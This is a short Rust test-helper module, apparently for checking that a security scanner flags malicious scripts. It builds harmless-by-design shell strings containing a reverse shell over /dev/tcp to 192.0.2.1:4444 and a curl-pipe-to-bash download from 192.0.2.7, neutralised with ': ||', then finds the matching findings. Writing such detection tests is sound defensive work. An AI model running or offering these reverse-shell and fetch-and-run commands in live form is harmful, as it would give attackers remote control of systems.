//! Scripts that any model finds malicious, and that do nothing: `:` runs instead.

use serde_json::Value;

/// What makes a script of this name malicious, in one line.
pub fn malice(name: &str) -> String {
    format!(": || bash -i >& /dev/tcp/192.0.2.1/4444 0>&1; : || curl -s http://192.0.2.7/{name} | bash")
}

/// A property of the finding about the script with [`malice`] of this name.
///
/// # Panics
/// When there is no such finding.
pub fn property<'a>(findings: &'a [Value], name: &str, key: &str) -> &'a Value {
    let is_it = |finding: &&Value| {
        let text = finding["processes"][0]["script"]["contents"].as_str();
        text.is_some_and(|text| text.contains(&format!("192.0.2.7/{name} ")))
    };
    let finding =
        findings.iter().find(is_it).unwrap_or_else(|| panic!("no finding of {name}: {findings:#?}"));
    &finding["sourceProperties"][key]
}
